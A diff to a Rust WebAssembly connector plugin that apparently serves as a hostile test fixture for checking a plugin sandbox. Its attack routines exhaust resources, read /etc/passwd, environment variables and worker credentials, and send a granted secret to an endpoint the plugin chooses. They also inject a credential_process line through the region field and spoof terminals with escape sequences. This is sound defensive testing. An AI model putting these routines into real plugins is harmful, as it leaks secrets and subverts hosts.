@@ -1,25 +1,12 @@
 //! A connector plugin that misbehaves on request, to prove the sandbox holds.
 //!
-//! It handles type `hostile`. The spec's `conn_id` chooses the misbehaviour:
-//! `loop`, `oom`, `panic`, `ssm:<name>` (read that SSM parameter), `sts`,
-//! `role:<arn>` (assume that role), `worker` (ask for the worker's
-//! credentials), `bad-session-name`, `flood` (return a huge result),
-//! `recurse` (stack exhaustion), `huge` (a 300 MiB string), `clock` (time and
-//! randomness, which WASI does give), `net:<addr>` and `dns` (sockets),
-//! `env` / `file` / `stdout` (try what WASI would allow if anything were granted),
-//! `sleep` (an hour, through WASI), `ssm-loop` / `sts-loop` (capability calls
-//! without end), `sts-endpoint:<url>` (AssumeRole sent to a URL of its
-//! choosing, carrying a granted secret), `endpoint:<url>` (credentials that
-//! steer the job to a URL), `sts-bad-region` / `resolved-bad-region` (a region
-//! with a line break and a `credential_process`), `expiration-max`,
-//! `aws-expiration-max`, `aws-cli-without-credentials`, `bad-value-name`,
-//! `terminal` (a problem full of escape sequences and bidi overrides),
-//! `count` (bumps a `static` and returns it), `panic-long` (a 100 KB panic
-//! message), `many-problems` (2,000 of them);
-//! anything else behaves well. Its `describe` sleeps for an hour when the
-//! worker's `CONN_APP_NAME` contains `hostile-sleep-in-describe`, and lists
-//! its type twice when it contains `hostile-duplicate-types`, an invalid type
-//! with `hostile-bad-type`, and asks for AWS with `hostile-describe-asks-aws`.
+//! It handles type `hostile`. The spec's `attack` field chooses the
+//! misbehaviour, as a value of [`Attack`]: `"loop"`, or `{"ssm": "/name"}`
+//! for one with an argument. A spec without one behaves well; an attack this
+//! plugin does not know is a validation error, so a test cannot pass by
+//! misspelling its attack. What `describe` does comes from the worker's
+//! `CONN_APP_NAME` (the only worker text a plugin sees then), read as a
+//! [`DescribeAttack`] when it is exactly `hostile-describe:<attack>`.
 
 #![cfg(target_family = "wasm")]
 
@@ -65,102 +52,207 @@ fn credentials(endpoint_url: Option<String>, region: Option<String>, expiration:
 struct Hostile;
 export!(Hostile);
 
-/// The misbehaviour named in the spec: the text after `"conn_id":"`.
-fn mode(spec: &str) -> String {
-    let start = spec.find("\"conn_id\":\"").map(|i| i + 11).unwrap_or(spec.len());
-    spec[start..].split('"').next().unwrap_or("").to_string()
+/// What the spec's `attack` asks for.
+#[derive(serde::Deserialize)]
+#[serde(rename_all = "kebab-case")]
+enum Attack {
+    /// Spin forever.
+    Loop,
+    /// Allocate until stopped.
+    Oom,
+    /// Panic.
+    Panic,
+    /// Panic with a 100 KB message.
+    PanicLong,
+    /// Exhaust the call stack.
+    Recurse,
+    /// Exhaust the shadow stack in linear memory.
+    RecurseBig,
+    /// Build a 300 MiB string.
+    Huge,
+    /// Read the time and randomness (WASI does give them).
+    Clock,
+    /// Open a TCP connection to this address.
+    Net(String),
+    /// Look up a name.
+    Dns,
+    /// Assume a fixed role.
+    Sts,
+    /// Assume this role.
+    Role(String),
+    /// Send AssumeRole, carrying a granted secret, to this endpoint.
+    StsEndpoint(String),
+    /// AssumeRole with a region holding a line break.
+    StsBadRegion,
+    /// Bump a `static` and return it.
+    Count,
+    /// Sleep for an hour through WASI.
+    Sleep,
+    /// Read SSM without end.
+    SsmLoop,
+    /// Call STS without end.
+    StsLoop,
+    /// Ask for the worker's credentials.
+    Worker,
+    /// Read the environment and arguments.
+    Env,
+    /// Read a file.
+    File,
+    /// Print to stdout.
+    Stdout,
+    /// Write 100,000 log lines.
+    Log,
+    /// Read this SSM parameter.
+    Ssm(String),
+    /// Return 2,000 problems.
+    ManyProblems,
+    /// Return a problem full of escape sequences and bidi overrides.
+    Terminal,
+    /// Return a session name STS refuses.
+    BadSessionName,
+    /// Resolve to credentials that steer the job to this endpoint.
+    Endpoint(String),
+    /// Resolve to credentials whose region holds a `credential_process` line.
+    ResolvedBadRegion,
+    /// Resolve with an expiration past any date.
+    ExpirationMax,
+    /// Resolve to credentials with an expiration past any date.
+    AwsExpirationMax,
+    /// Ask for the AWS CLI stand-in without credentials.
+    AwsCliWithoutCredentials,
+    /// Resolve to a value whose name is not a variable name.
+    BadValueName,
+    /// Resolve to a 4 MiB value.
+    Flood,
 }
 
-fn misbehave(mode: &str) -> Result<String, String> {
-    match mode {
-        "loop" => {
+/// What `describe` does, from `CONN_APP_NAME = hostile-describe:<attack>`.
+#[derive(serde::Deserialize, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+enum DescribeAttack {
+    /// Sleep for an hour.
+    Sleep,
+    /// List its type twice (in two cases).
+    DuplicateTypes,
+    /// Claim a type that is not a type name.
+    BadType,
+    /// Ask for SSM and the worker's credentials, and say what came back.
+    AsksAws,
+}
+
+/// The spec's attack: none, one, or an error naming what is wrong.
+fn attack(spec: &str) -> Result<Option<Attack>, String> {
+    let spec: serde_json::Value = serde_json::from_str(spec).map_err(|e| format!("spec: {e}"))?;
+    match spec.get("attack") {
+        None => Ok(None),
+        Some(attack) => serde_json::from_value(attack.clone()).map(Some).map_err(|e| format!("attack: {e}")),
+    }
+}
+
+fn describe_attack() -> Option<DescribeAttack> {
+    let template = config::get("CONN_APP_NAME")?;
+    let name = template.strip_prefix("hostile-describe:")?;
+    serde_json::from_value(serde_json::Value::String(name.to_string())).ok()
+}
+
+/// A problem on the `attack` field.
+fn problem(message: String) -> Problem {
+    Problem { field: "attack".into(), message, severity: Severity::Error }
+}
+
+/// The attacks every call can make; the others answer as well-behaved.
+fn misbehave(attack: &Attack) -> Result<String, String> {
+    match attack {
+        Attack::Loop => {
             let mut n: u64 = 0;
             loop {
                 n = std::hint::black_box(n.wrapping_add(1));
             }
         }
-        "oom" => {
+        Attack::Oom => {
             let mut hoard: Vec<Vec<u8>> = Vec::new();
             loop {
                 hoard.push(vec![1u8; 1 << 20]);
             }
         }
-        "panic" => panic!("hostile plugin panics on purpose"),
-        "panic-long" => panic!("hostile plugin panics at length: {}", "x".repeat(100_000)),
-        "recurse" => Ok(format!("{}", recurse(std::hint::black_box(1)))),
-        "recurse-big" => Ok(format!("{}", recurse_big_frames(std::hint::black_box(1)))),
-        "huge" => {
+        Attack::Panic => panic!("hostile plugin panics on purpose"),
+        Attack::PanicLong => panic!("hostile plugin panics at length: {}", "x".repeat(100_000)),
+        Attack::Recurse => Ok(format!("{}", recurse(std::hint::black_box(1)))),
+        Attack::RecurseBig => Ok(format!("{}", recurse_big_frames(std::hint::black_box(1)))),
+        Attack::Huge => {
             // Hundreds of MiB: more than the memory cap lets it build.
             let huge = "x".repeat(300 << 20);
             Ok(huge)
         }
-        "clock" => {
+        Attack::Clock => {
             let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_err(|e| e.to_string())?;
             let mut seeds = std::collections::hash_map::RandomState::new();
             let _ = &mut seeds;
             Ok(format!("clock={} random=ok", now.as_secs() > 0))
         }
-        m if m.starts_with("net:") => match std::net::TcpStream::connect(&m[4..]) {
+        Attack::Net(address) => match std::net::TcpStream::connect(address) {
             Ok(_) => Ok("connected".into()),
             Err(e) => Err(format!("net: {e}")),
         },
-        "dns" => match std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)) {
+        Attack::Dns => match std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)) {
             Ok(addrs) => Ok(format!("resolved {}", addrs.count())),
             Err(e) => Err(format!("dns: {e}")),
         },
-        "sts" => sts::assume_role(&request("arn:aws:iam::123456789012:role/x"))
+        Attack::Sts => sts::assume_role(&request("arn:aws:iam::123456789012:role/x"))
             .map(|c| c.access_key_id)
             .map_err(|e| format!("{e:?}")),
-        m if m.starts_with("role:") => {
-            sts::assume_role(&request(&m[5..])).map(|c| c.access_key_id).map_err(|e| format!("{e:?}"))
-        }
-        m if m.starts_with("sts-endpoint:") => {
+        Attack::Role(arn) => sts::assume_role(&request(arn)).map(|c| c.access_key_id).map_err(|e| format!("{e:?}")),
+        Attack::StsEndpoint(endpoint) => {
             // Exfiltration: a granted secret in the tags, sent where the plugin says.
             let secret = ssm::get_parameter("/lava/prod/granted", true).unwrap_or_default();
             let mut r = request("arn:aws:iam::123456789012:role/x");
             r.tags = vec![sts::Tag { key: "stolen".into(), value: secret }];
-            r.endpoint_url = Some(m[13..].to_string());
+            r.endpoint_url = Some(endpoint.clone());
             r.source = Some(credentials(None, None, None));
             sts::assume_role(&r).map(|c| c.access_key_id).map_err(|e| format!("{e:?}"))
         }
-        "sts-bad-region" => {
+        Attack::StsBadRegion => {
             let mut r = request("arn:aws:iam::123456789012:role/x");
             r.region = Some(INJECTED_REGION.into());
             sts::assume_role(&r).map(|c| c.access_key_id).map_err(|e| format!("{e:?}"))
         }
-        "count" => {
+        Attack::Count => {
             // State that would leak between calls if an instance were reused.
             static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
             Ok(format!("calls={}", CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1))
         }
-        "sleep" => {
+        Attack::Sleep => {
             std::thread::sleep(std::time::Duration::from_secs(3600));
             Ok("slept".into())
         }
-        "ssm-loop" => loop {
+        Attack::SsmLoop => loop {
             let _ = std::hint::black_box(ssm::get_parameter("/lava/prod/granted", true));
         },
-        "sts-loop" => loop {
+        Attack::StsLoop => loop {
             let _ = std::hint::black_box(sts::assume_role(&request("arn:aws:iam::123456789012:role/x")));
         },
-        "worker" => lava::connector::worker_credentials::get().map(|c| c.access_key_id).map_err(|e| format!("{e:?}")),
-        "env" => Ok(format!(
+        Attack::Worker => {
+            lava::connector::worker_credentials::get().map(|c| c.access_key_id).map_err(|e| format!("{e:?}"))
+        }
+        Attack::Env => Ok(format!(
             "env={:?} args={:?}",
             std::env::vars().collect::<Vec<_>>(),
             std::env::args().collect::<Vec<_>>()
         )),
-        "file" => std::fs::read_to_string("/etc/passwd").map_err(|e| format!("file: {e}")),
-        "stdout" => {
+        Attack::File => std::fs::read_to_string("/etc/passwd").map_err(|e| format!("file: {e}")),
+        Attack::Stdout => {
             println!("hostile output on stdout");
             Ok("printed".into())
         }
-        "log" => {
+        Attack::Log => {
             for i in 0..100_000 {
                 log::log(log::Level::Info, &format!("hostile log line {i}"));
             }
             Ok("logged".into())
         }
-        m if m.starts_with("ssm:") => ssm::get_parameter(&m[4..], true).map_err(|e| format!("{e:?}")),
+        Attack::Ssm(name) => ssm::get_parameter(name, true).map_err(|e| format!("{e:?}")),
+        // The attacks on one call's result (problems, session names, resolved
+        // values) are made there; in any other call they behave.
         _ => Ok("fine".into()),
     }
 }
@@ -186,19 +278,17 @@ fn recurse_big_frames(depth: u64) -> u64 {
 
 impl Guest for Hostile {
     fn describe() -> Descriptor {
-        let template = config::get("CONN_APP_NAME").unwrap_or_default();
-        if template.contains("hostile-sleep-in-describe") {
+        let attack = describe_attack();
+        if attack == Some(DescribeAttack::Sleep) {
             std::thread::sleep(std::time::Duration::from_secs(3600));
         }
-        let mut types = vec!["hostile".to_string()];
-        if template.contains("hostile-duplicate-types") {
-            types.push("HOSTILE".into());
-        }
-        if template.contains("hostile-bad-type") {
-            types = vec!["bad type!".into()];
-        }
+        let types = match attack {
+            Some(DescribeAttack::DuplicateTypes) => vec!["hostile".to_string(), "HOSTILE".into()],
+            Some(DescribeAttack::BadType) => vec!["bad type!".into()],
+            _ => vec!["hostile".to_string()],
+        };
         let mut version = "0.0.1".to_string();
-        if template.contains("hostile-describe-asks-aws") {
+        if attack == Some(DescribeAttack::AsksAws) {
             // What describe gets when it asks for AWS, shown in its version.
             let ssm = ssm::get_parameter("/lava/prod/granted", true).err().map(|e| format!("{e:?}"));
             let worker = lava::connector::worker_credentials::get().err().map(|e| format!("{e:?}"));
@@ -208,69 +298,65 @@ impl Guest for Hostile {
     }
 
     fn validate(spec: String, _context: ValidateContext) -> Vec<Problem> {
-        if mode(&spec) == "many-problems" {
-            let problem =
-                Problem { field: "conn_id".into(), message: "one of many".into(), severity: Severity::Warning };
-            return vec![problem; 2_000];
-        }
-        if mode(&spec) == "terminal" {
-            return vec![Problem {
-                field: "conn_id\u{1b}[2K".into(),
+        let attack = match attack(&spec) {
+            Ok(Some(attack)) => attack,
+            Ok(None) => return vec![],
+            Err(message) => return vec![problem(message)],
+        };
+        match attack {
+            Attack::ManyProblems => {
+                let one =
+                    Problem { field: "attack".into(), message: "one of many".into(), severity: Severity::Warning };
+                vec![one; 2_000]
+            }
+            Attack::Terminal => vec![Problem {
+                field: "attack\u{1b}[2K".into(),
                 message: "\u{1b}]0;owned\u{7}\rall good\u{202E}lmth.exe\u{200B}".into(),
                 severity: Severity::Error,
-            }];
-        }
-        match misbehave(&mode(&spec)) {
-            Ok(_) => vec![],
-            Err(message) => vec![Problem { field: "conn_id".into(), message, severity: Severity::Error }],
+            }],
+            attack => match misbehave(&attack) {
+                Ok(_) => vec![],
+                Err(message) => vec![problem(message)],
+            },
         }
     }
 
     fn session_name(spec: String, _context: JobContext) -> Result<String, Vec<Problem>> {
-        match mode(&spec).as_str() {
-            "bad-session-name" => Ok("no spaces allowed here".into()),
-            m => misbehave(m)
-                .map(|_| "hostile-session".into())
-                .map_err(|message| vec![Problem { field: "conn_id".into(), message, severity: Severity::Error }]),
+        match attack(&spec).map_err(|message| vec![problem(message)])? {
+            None => Ok("hostile-session".into()),
+            Some(Attack::BadSessionName) => Ok("no spaces allowed here".into()),
+            Some(attack) => {
+                misbehave(&attack).map(|_| "hostile-session".into()).map_err(|message| vec![problem(message)])
+            }
         }
     }
 
     fn resolve(spec: String, _context: JobContext) -> Result<Resolved, String> {
-        let mode = mode(&spec);
         let resolved = |aws: Option<AwsCredentials>, expiration: Option<u64>, launcher: Option<LauncherKind>| {
             Ok(Resolved { values: vec![], expiration, aws, launcher })
         };
-        match mode.as_str() {
-            m if m.starts_with("endpoint:") => {
-                resolved(Some(credentials(Some(m[9..].to_string()), None, None)), None, Some(LauncherKind::AwsCli))
+        let value = |name: &str, value: String| {
+            Ok(Resolved {
+                values: vec![NamedValue { name: name.into(), value, secret: false }],
+                expiration: None,
+                aws: None,
+                launcher: None,
+            })
+        };
+        match attack(&spec)? {
+            None => value("RESULT", "fine".into()),
+            Some(Attack::Endpoint(endpoint)) => {
+                resolved(Some(credentials(Some(endpoint), None, None)), None, Some(LauncherKind::AwsCli))
             }
-            "resolved-bad-region" => {
+            Some(Attack::ResolvedBadRegion) => {
                 resolved(Some(credentials(None, Some(INJECTED_REGION.into()), None)), None, Some(LauncherKind::AwsCli))
             }
-            "expiration-max" => resolved(None, Some(u64::MAX), None),
-            "aws-expiration-max" => resolved(Some(credentials(None, None, Some(u64::MAX))), None, None),
-            "aws-cli-without-credentials" => resolved(None, None, Some(LauncherKind::AwsCli)),
-            "bad-value-name" => Ok(Resolved {
-                values: vec![NamedValue { name: "NOT A NAME".into(), value: "v".into(), secret: false }],
-                expiration: None,
-                aws: None,
-                launcher: None,
-            }),
-            "flood" => Ok(Resolved {
-                values: vec![NamedValue { name: "FLOOD".into(), value: "x".repeat(4 << 20), secret: false }],
-                expiration: None,
-                aws: None,
-                launcher: None,
-            }),
-            m => {
-                let value = misbehave(m)?;
-                Ok(Resolved {
-                    values: vec![NamedValue { name: "RESULT".into(), value, secret: false }],
-                    expiration: None,
-                    aws: None,
-                    launcher: None,
-                })
-            }
+            Some(Attack::ExpirationMax) => resolved(None, Some(u64::MAX), None),
+            Some(Attack::AwsExpirationMax) => resolved(Some(credentials(None, None, Some(u64::MAX))), None, None),
+            Some(Attack::AwsCliWithoutCredentials) => resolved(None, None, Some(LauncherKind::AwsCli)),
+            Some(Attack::BadValueName) => value("NOT A NAME", "v".into()),
+            Some(Attack::Flood) => value("FLOOD", "x".repeat(4 << 20)),
+            Some(attack) => value("RESULT", misbehave(&attack)?),
         }
     }
 }
